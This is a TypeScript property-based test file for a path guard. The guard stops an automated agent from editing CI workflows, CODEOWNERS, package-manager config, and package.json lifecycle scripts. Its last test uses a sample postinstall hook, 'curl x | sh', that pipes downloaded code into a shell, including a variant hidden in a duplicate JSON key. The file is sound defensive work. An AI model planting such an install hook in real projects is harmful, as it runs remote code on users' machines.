/**
 * What CI executes is protected by default (issue 16, property 1): all of
 * `.github/`, CODEOWNERS / .gitattributes / .gitmodules anywhere, package-manager
 * configuration, and lifecycle scripts in any package.json. Property-based: any
 * spelling of a protected path is refused even for an agent given everything
 * (`**`, `.github/**`), and any package.json edit that adds or changes a
 * lifecycle script is refused unless the config allows it.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  checkLifecycleScripts,
  checkWrite,
  isLifecycleScript,
  lifecycleScriptChanges,
} from '../../common/path-guard.js';
import type { WriteRules } from '../../common/path-guard.js';
import { validateRepoConfig } from '../../common/repo-config.js';

const RUNS = { numRuns: 400, seed: 16 };
const everything: WriteRules = {
  allowed: ['**', '.github/**', '*'],
  protectedPaths: [],
  maxFileBytes: 10_000,
  maxFiles: 100,
};

const segment = fc.stringMatching(/^[a-z0-9_-]{1,8}$/);
const dirs = fc.array(segment, { maxLength: 3 });
/** Random upper/lower case, like a case-insensitive checkout would accept. */
const anyCase = (s: string) =>
  fc
    .array(fc.boolean(), { minLength: s.length, maxLength: s.length })
    .map((flags) => [...s].map((c, i) => (flags[i] ? c.toUpperCase() : c)).join(''));
/** `./a//b` spellings of the same path. */
const spelled = (parts: string[]) =>
  fc
    .constantFrom('', './')
    .chain((lead) => fc.constantFrom('/', '//', '/./').map((sep) => lead + parts.join(sep)));

const protectedAnywhere = fc.constantFrom(
  'CODEOWNERS',
  '.gitattributes',
  '.gitmodules',
  '.npmrc',
  '.yarnrc',
  '.yarnrc.yml',
  '.pnpmfile.cjs',
);

describe('protected by default', () => {
  it('refuses anything under .github/ in any case and spelling, whatever the agent was given', () => {
    fc.assert(
      fc.property(
        anyCase('.github'),
        dirs,
        segment,
        (gh, rest, leaf) =>
          !checkWrite([gh, ...rest, `${leaf}.yml`].join('/'), 'x', everything, []).ok,
      ),
      RUNS,
    );
  });

  it('refuses CODEOWNERS, git attributes and package-manager config at any depth', () => {
    fc.assert(
      fc.property(dirs, protectedAnywhere, (d, name) =>
        fc.assert(
          fc.property(anyCase(name), (n) =>
            fc.assert(
              fc.property(spelled([...d, n]), (p) => {
                const v = checkWrite(p, 'x', everything, []);
                expect(v.ok).toBe(false);
                if (!v.ok) expect(v.reason).toMatch(/protected/);
              }),
              { numRuns: 3 },
            ),
          ),
          { numRuns: 3 },
        ),
      ),
      { numRuns: 100, seed: 16 },
    );
  });

  it('still allows ordinary files in an agent given everything', () => {
    fc.assert(
      fc.property(dirs, segment, (d, leaf) => {
        const p = [...d, `${leaf}.ts`].join('/');
        fc.pre(!p.split('/').some((s) => s === '.git' || s === '.github' || s === '.yarn'));
        expect(checkWrite(p, 'x', everything, [])).toEqual({ ok: true, path: p });
      }),
      RUNS,
    );
  });

  it('a config giving an agent .github/** is valid but loosens nothing', () => {
    const config = validateRepoConfig({
      agents: { devops: { paths: ['.github/**', 'deploy/**'] } },
      protected_paths: [],
    });
    expect(config.allow_lifecycle_scripts).toBe(false);
    const rules = { ...everything, allowed: config.agents.devops?.paths ?? [] };
    for (const p of [
      '.github/workflows/ci.yml',
      '.github/actions/x/action.yml',
      '.github/CODEOWNERS',
      '.github/dependabot.yml',
      '.github/blogtube.yml',
    ]) {
      expect(checkWrite(p, 'x', rules, []).ok).toBe(false);
    }
    expect(checkWrite('deploy/app.yml', 'x', rules, []).ok).toBe(true);
  });
});

const LIFECYCLE = [
  'preinstall',
  'install',
  'postinstall',
  'prepare',
  'preprepare',
  'postprepare',
  'prepublishOnly',
  'prepack',
  'postpack',
  'dependencies',
  'pretest',
  'posttest',
  'pnpm:devPreinstall',
];
const ORDINARY = ['build', 'lint', 'format', 'prettier', 'typecheck', 'bench', 'dev'];
const command = fc.stringMatching(/^[a-z .&|/-]{0,20}$/);
const scripts = (names: string[]) =>
  fc.dictionary(fc.constantFrom(...names), command, { maxKeys: names.length });
const pkg = (s: Record<string, string> | undefined, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'x', version: '1.0.0', ...extra, ...(s && { scripts: s }) }, null, 2);

describe('lifecycle scripts in package.json', () => {
  it('names: lifecycle events and hooks, not look-alikes', () => {
    for (const n of LIFECYCLE) expect(isLifecycleScript(n, new Set())).toBe(true);
    for (const n of ORDINARY) expect(isLifecycleScript(n, new Set(ORDINARY))).toBe(false);
    expect(isLifecycleScript('prebuild', new Set(['build']))).toBe(true);
    expect(isLifecycleScript('prettier', new Set(['build']))).toBe(false);
  });

  it('an edit that adds or changes a lifecycle script is refused; the config can allow it', () => {
    fc.assert(
      fc.property(
        scripts([...LIFECYCLE, ...ORDINARY]),
        fc.constantFrom(...LIFECYCLE),
        command,
        dirs,
        (before, name, cmd, d) => {
          fc.pre(before[name] !== cmd);
          const path = [...d, 'package.json'].join('/');
          const after = { ...before, [name]: cmd };
          const v = checkLifecycleScripts(path, pkg(before), pkg(after), {});
          expect(v.ok).toBe(false);
          if (!v.ok) expect(v.reason).toContain(name);
          // A new package.json is an addition too.
          expect(checkLifecycleScripts(path, undefined, pkg(after), {}).ok).toBe(false);
          expect(
            checkLifecycleScripts(path, pkg(before), pkg(after), { allowLifecycleScripts: true })
              .ok,
          ).toBe(true);
        },
      ),
      RUNS,
    );
  });

  it('edits that keep every lifecycle script as it was pass: dependencies, ordinary scripts, formatting, removals', () => {
    fc.assert(
      fc.property(
        scripts([...LIFECYCLE, ...ORDINARY]),
        scripts(ORDINARY),
        fc.dictionary(fc.stringMatching(/^[a-z-]{1,8}$/), fc.constantFrom('^1.0.0', '~2.1.0')),
        fc.subarray(LIFECYCLE),
        (before, ordinary, deps, removed) => {
          const after: Record<string, string> = { ...before, ...ordinary };
          for (const r of removed) delete after[r];
          // `pre<x>` is a hook once `<x>` exists: keep look-alikes out of the ordinary edits.
          fc.pre(lifecycleScriptChanges(pkg(before), pkg(after)).length === 0);
          const text = JSON.stringify(JSON.parse(pkg(after, { dependencies: deps })));
          expect(checkLifecycleScripts('package.json', pkg(before), text, {}).ok).toBe(true);
        },
      ),
      RUNS,
    );
  });

  it('only package.json files are read as such; malformed JSON has no scripts to run', () => {
    const evil = pkg({ postinstall: 'curl x | sh' });
    expect(checkLifecycleScripts('api/notpackage.json', undefined, evil, {}).ok).toBe(true);
    expect(checkLifecycleScripts('api/Package.JSON', undefined, evil, {}).ok).toBe(false);
    expect(checkLifecycleScripts('package.json', undefined, '{"scripts": ', {}).ok).toBe(true);
    // Duplicate keys: JSON.parse (like npm) keeps the last.
    const dup = '{"scripts":{"postinstall":"true","postinstall":"curl x | sh"}}';
    expect(checkLifecycleScripts('package.json', pkg({ postinstall: 'true' }), dup, {}).ok).toBe(
      false,
    );
  });
});
